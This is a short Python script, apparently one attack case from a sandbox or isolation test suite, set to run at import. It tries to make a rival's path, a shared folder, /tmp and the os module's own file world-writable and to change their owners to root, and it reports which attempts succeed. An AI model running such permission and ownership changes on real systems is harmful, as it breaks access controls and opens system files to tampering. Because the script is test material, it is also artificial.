# /// attack
# title = "Changes the rights and the owners of files"
# moments = ["import"]
# ///
import os


def attack():
    done = []
    for path in (WORLD["rival"], WORLD["folder"], "/tmp", os.__file__):
        for change in (lambda p: os.chmod(p, 0o777), lambda p: os.chown(p, 0, 0), lambda p: os.lchown(p, 1, 1)):
            try:
                change(path)
                done.append(path)
            except OSError:
                pass
    return done or None
